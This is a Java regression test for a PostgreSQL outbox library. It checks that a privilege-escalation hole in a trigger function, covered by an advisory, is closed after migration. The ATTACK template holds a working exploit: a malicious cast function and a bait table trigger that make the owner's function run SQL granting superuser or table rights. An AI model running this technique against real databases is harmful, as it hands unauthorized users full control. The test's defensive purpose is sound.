package io.dualstream.outbox.db;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Nobody has code of his own run with the rights of the outbox's owner: not by a trigger of ours on a table of his, with a column
 * whose cast is his function. Each attack first succeeds on the schema as it was, so that its failure later says something.
 */
class BorrowedRightsTest {

    private static final String ATTACK = """
            create type pg_temp.lie as enum ('x');
            create function pg_temp.evil(v pg_temp.lie) returns bigint language plpgsql as $$ begin
              %2$s;
              return 1; end $$;
            grant execute on function pg_temp.evil(pg_temp.lie) to public;
            create cast (pg_temp.lie as bigint) with function pg_temp.evil(pg_temp.lie) as assignment;
            create table pg_temp.bait (xid xid8, seq pg_temp.lie, id uuid, created_at timestamptz) partition by list (id);
            create table pg_temp.bait1 partition of pg_temp.bait default;
            grant select on pg_temp.bait, pg_temp.bait1 to public;
            create trigger t before truncate on pg_temp.bait1 for each statement execute function %1$s.note_removal();
            insert into pg_temp.bait values ('1', 'x', gen_random_uuid(), now());
            truncate pg_temp.bait1;
            """;

    @ParameterizedTest
    @EnumSource(ServerVersion.class)
    void aPublisherDoesNotBecomeTheOwner(ServerVersion version) {
        DataSource database = version.createDatabase();
        Installed.migrateToV4(database, "outbox");
        Sql.execute(database, "set search_path = outbox; " + Installed.rolesOfV5());
        String service = Installed.login(database, "svc");
        Sql.execute(database, "grant outbox_publisher to " + service);
        String prize = "grant all on outbox.event, outbox.dead_letter, outbox.lease to " + service;

        attack(database, service, "outbox", prize);
        assertThat(mayReadAndDelete(database, service)).isEqualTo("t");

        Sql.execute(database, "delete from outbox.removal");
        Sql.execute(database, "revoke all on outbox.event, outbox.dead_letter, outbox.lease from " + service);
        OutboxMigrations.migrate(database, "outbox");
        assertRefused(database, service, "outbox", prize);
        assertThat(mayReadAndDelete(database, service)).isEqualTo("f");

        Sql.execute(database, "grant execute on function outbox.note_removal() to " + service);
        attack(database, service, "outbox", prize);
        assertThat(mayReadAndDelete(database, service))
                .as("even if PUBLIC could execute it")
                .isEqualTo("f");
        assertThat(Sql.query(database, "select * from outbox.removal")).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(ServerVersion.class)
    void aWriterDoesNotBecomeASuperuserWhereASuperuserInstalledAndNobodyMadeRoles(ServerVersion version) {
        DataSource database = version.createDatabase();
        Installed.migrateToV4(database, "Legacy Events");
        String legacy = Installed.login(database, "legacy");
        Sql.execute(database, "grant usage on schema \"Legacy Events\" to " + legacy);
        Sql.execute(database, "grant insert on \"Legacy Events\".event to " + legacy);

        assertBecomesSuperuserUntilUpgraded(database, legacy, "Legacy Events");
    }

    @ParameterizedTest
    @EnumSource(ServerVersion.class)
    void aLoginWithoutAnyGrantDoesNotBecomeASuperuserThroughSchemaPublic(ServerVersion version) {
        DataSource database = version.createDatabase();
        Installed.migrateToV4(database, "public");

        assertBecomesSuperuserUntilUpgraded(database, Installed.login(database, "anyone"), "public");
    }

    private static void assertBecomesSuperuserUntilUpgraded(DataSource database, String user, String schema) {
        String quoted = '"' + schema + '"';
        String prize = "alter role " + user + " superuser";

        attack(database, user, quoted, prize);
        assertThat(Installed.isSuperuser(database, user)).isEqualTo("t");

        Sql.execute(database, "alter role " + user + " nosuperuser");
        OutboxMigrations.migrate(database, schema);
        assertRefused(database, user, quoted, prize);
        assertThat(Installed.isSuperuser(database, user)).isEqualTo("f");
    }

    /** A trigger that was put on a table before the upgrade stays, and PostgreSQL asks nobody's rights when it fires. */
    @ParameterizedTest
    @EnumSource(ServerVersion.class)
    void aTriggerFromBeforeTheUpgradeIsFoundAndHarmless(ServerVersion version) throws IOException {
        DataSource database = version.createDatabase();
        Installed.migrateToV4(database, "outbox");
        String user = Installed.login(database, "patient");
        Sql.execute(database, "grant usage on schema outbox to " + user);
        Sql.execute(database, "create schema bait authorization " + user);
        String prize = "alter role " + user + " superuser";
        String beforehand = ATTACK.formatted("outbox", prize).replace("pg_temp.", "bait.");
        int truncate = beforehand.lastIndexOf("truncate ");
        Sql.execute(Installed.as(database, user), beforehand.substring(0, truncate));
        List<String> queries = queriesOfTheAdvisory();
        assertThat(Sql.query(database, queries.get(0))).contains("bait.bait1");
        for (String query : queries) {
            Sql.query(database, query);
        }

        OutboxMigrations.migrate(database, "outbox");
        Sql.execute(Installed.as(database, user), beforehand.substring(truncate));

        assertThat(Installed.isSuperuser(database, user)).isEqualTo("f");
    }

    @ParameterizedTest
    @EnumSource(ServerVersion.class)
    void whoMayDeleteStillHasItNoted(ServerVersion version) {
        DataSource database = version.createDatabase();
        OutboxMigrations.migrate(database, "outbox");
        Sql.execute(database, "set search_path = outbox; " + Installed.roles());
        Sql.query(database, "select outbox.watch_partitions()");
        String cleaner = Installed.login(database, "cleaner");
        Sql.execute(database, "grant usage on schema outbox to " + cleaner);
        Sql.execute(database, "grant select, insert, delete, truncate on outbox.event to " + cleaner);
        Sql.execute(database, "grant select, truncate, delete on outbox.event_default to " + cleaner);
        DataSource asCleaner = Installed.as(database, cleaner);
        insert(asCleaner, "A-1");
        insert(asCleaner, "A-2");
        insert(asCleaner, "A-3");

        // Neither a table of the same name nor a path of his own misleads it.
        Sql.execute(
                asCleaner,
                "set search_path = pg_temp; create temp table removed (xid xid8, seq bigint, id uuid, created_at timestamptz);"
                        + " create temp table event_default (like removed); create temp table event (like removed);"
                        + " delete from outbox.event where aggregate_id = 'A-1';"
                        + " delete from outbox.event_default where aggregate_id = 'A-2';"
                        + " truncate outbox.event_default");

        assertThat(
                        Sql.query(
                                database,
                                "select concat_ws(' ', how, partition, events, removed_by) from outbox.removal order by number"))
                .containsExactly(
                        "deleted event 1 " + cleaner,
                        "deleted event_default 1 " + cleaner,
                        "truncated event_default 1 " + cleaner);
        assertThat(Sql.query(database, "select count(distinct id) from outbox.removed_event"))
                .containsExactly("3");
    }

    private static List<String> queriesOfTheAdvisory() throws IOException {
        String advisory = Files.readString(Path.of("../docs/advisories/2026-11-note-removal.md"));
        List<String> queries = Pattern.compile("```sql\n(.*?);?\n```", Pattern.DOTALL)
                .matcher(advisory.substring(advisory.indexOf("## Was it used?")))
                .results()
                .flatMap(block -> Stream.of(block.group(1).split(";\n")))
                .toList();
        assertThat(queries).hasSize(9);
        return queries;
    }

    private static void insert(DataSource database, String aggregateId) {
        Sql.execute(
                database,
                "insert into outbox.event (aggregate_type, aggregate_id, event_type, created_at) values ('order', '"
                        + aggregateId + "', 'E', '2020-01-01Z')");
    }

    private static void attack(DataSource database, String user, String schema, String prize) {
        Sql.execute(Installed.as(database, user), ATTACK.formatted(schema, prize));
    }

    private static void assertRefused(DataSource database, String user, String schema, String prize) {
        assertThatThrownBy(() -> attack(database, user, schema, prize))
                .hasMessageContainingAll("permission denied for function", "note_removal");
    }

    private static String mayReadAndDelete(DataSource database, String user) {
        return Sql.query(
                        database,
                        "select has_table_privilege('" + user + "', 'outbox.event', 'select')"
                                + " or has_table_privilege('" + user + "', 'outbox.event', 'delete')"
                                + " or has_table_privilege('" + user + "', 'outbox.dead_letter', 'delete')"
                                + " or has_table_privilege('" + user + "', 'outbox.lease', 'update')")
                .get(0);
    }
}
